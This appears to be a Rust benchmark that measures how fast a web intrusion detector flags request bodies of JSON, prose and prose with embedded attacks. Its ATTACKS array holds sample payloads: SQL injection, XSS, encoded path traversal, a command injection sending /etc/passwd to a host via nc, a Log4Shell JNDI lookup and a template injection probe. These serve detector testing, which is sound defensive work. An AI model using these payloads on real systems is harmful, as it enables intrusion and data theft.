//! How long the intruder takes to judge a body: a KB of it, and a call at the 50th and 99th percentile.
//! `cargo run --release --example intruder_bench`.
//!
//! Bodies of ordinary JSON, of prose and of attacks in prose, of 100 bytes to 64 KiB; each is judged in full, and as `assess` does.

use std::{error::Error, io::Write, time::Instant};

use defend::intruder::{Intruder, Request};
use online::Random;

/// Bytes of bodies.
const SIZES: [usize; 4] = [100, 1_024, 4_096, 65_536];
/// Bodies of a kind and a size; each is another.
const BODIES: usize = 64;
/// Bytes that are judged of a kind and a size, about.
const BYTES: usize = 4 << 20;

const WORDS: [&str; 40] = [
    "the",
    "order",
    "from",
    "Anna",
    "was",
    "late",
    "and",
    "she",
    "didn't",
    "like",
    "it",
    "please",
    "send",
    "another",
    "table",
    "(blue)",
    "for",
    "2",
    "people",
    "by",
    "Friday;",
    "thanks",
    "\"again\"",
    "price",
    "is",
    "$5",
    "or",
    "6%",
    "less",
    "when",
    "we",
    "chose",
    "items",
    "O'Brien",
    "e-mail:",
    "a.b@c.example",
    "12/11",
    "ok?",
    "naïve",
    "groß",
];

const ATTACKS: [&str; 6] = [
    "1' UnIoN/**/AlL SeLeCt null,null-- -",
    "<img src=x onerror=alert(1)>",
    "..%252f..%252f..%252fetc/passwd",
    "; cat /etc/passwd | nc 10.0.0.1 80",
    "${jndi:ldap://a.example/x}",
    "{{7*7}}",
];

fn prose(random: &mut Random, size: usize) -> String {
    let mut out = String::new();
    while out.len() < size {
        out.push_str(WORDS[random.below(WORDS.len() as u32) as usize]);
        out.push(if random.below(12) == 0 { '.' } else { ' ' });
    }
    cut(out, size)
}

fn json(random: &mut Random, size: usize) -> String {
    let mut out = String::from("{\"rows\": [");
    while out.len() < size {
        let (id, amount) = (random.below(1_000_000), random.below(10_000));
        let (name, city) = (prose(random, 12), prose(random, 8));
        out.push_str(&format!(
            "{{\"id\": {id}, \"amount\": {amount}.25, \"name\": \"{}\", \"city\": \"{}\"}}, ",
            name.replace('"', ""),
            city.replace('"', "")
        ));
    }
    cut(out, size)
}

fn cut(mut text: String, size: usize) -> String {
    while !text.is_char_boundary(size.min(text.len())) {
        text.push(' ');
        text.remove(0);
    }
    text.truncate(size);
    text
}

fn hostile(random: &mut Random, size: usize) -> String {
    let attack = ATTACKS[random.below(ATTACKS.len() as u32) as usize];
    let text = prose(random, size.saturating_sub(attack.len()));
    let mut at = random.below(text.len().max(1) as u32) as usize;
    while !text.is_char_boundary(at) {
        at -= 1;
    }
    cut(format!("{}{attack}{}", &text[..at], &text[at..]), size.max(attack.len()))
}

#[expect(clippy::disallowed_methods, reason = "a bench measures time")]
fn measure(name: &str, bodies: &[String], judge: impl Fn(&[u8]) -> bool) -> Result<(), Box<dyn Error>> {
    let size = bodies.first().map_or(1, String::len);
    let calls = (BYTES / size).clamp(64, 20_000);
    let mut times = Vec::with_capacity(calls);
    let mut called = 0;
    for body in bodies.iter().cycle().take(calls + bodies.len()) {
        let begun = Instant::now();
        called += usize::from(judge(body.as_bytes()));
        times.push(begun.elapsed().as_secs_f64() * 1e9);
    }
    let times = &mut times[bodies.len()..];
    times.sort_unstable_by(f64::total_cmp);
    let at = |share: f64| times[((times.len() - 1) as f64 * share) as usize];
    let line = format!(
        "{name:<24} {size:>6} B  p50 {:>9.2} µs  p99 {:>9.2} µs  {:>7.0} ns/KB  hostile {:>5.3}",
        at(0.5) / 1e3,
        at(0.99) / 1e3,
        at(0.5) / size as f64 * 1024.0,
        called as f64 / (calls + bodies.len()) as f64
    );
    Ok(writeln!(std::io::stdout(), "{line}")?)
}

type Make = fn(&mut Random, usize) -> String;

fn main() -> Result<(), Box<dyn Error>> {
    let intruder = Intruder::shipped();
    let kinds: [(&str, Make); 3] = [("json", json), ("prose", prose), ("attacks", hostile)];
    for (kind, make) in kinds {
        for size in SIZES {
            let mut random = Random::new(7);
            let bodies: Vec<String> = (0..BODIES).map(|_| make(&mut random, size)).collect();
            measure(&format!("{kind}, text"), &bodies, |body| intruder.is_hostile(body))?;
            measure(&format!("{kind}, request"), &bodies, |body| {
                intruder.request(&Request { body, ..Request::default() }).hostile
            })?;
            measure(&format!("{kind}, reflex"), &bodies, |body| {
                intruder.reflex([body].into_iter(), body.len(), 0).is_some()
            })?;
        }
    }
    Ok(())
}
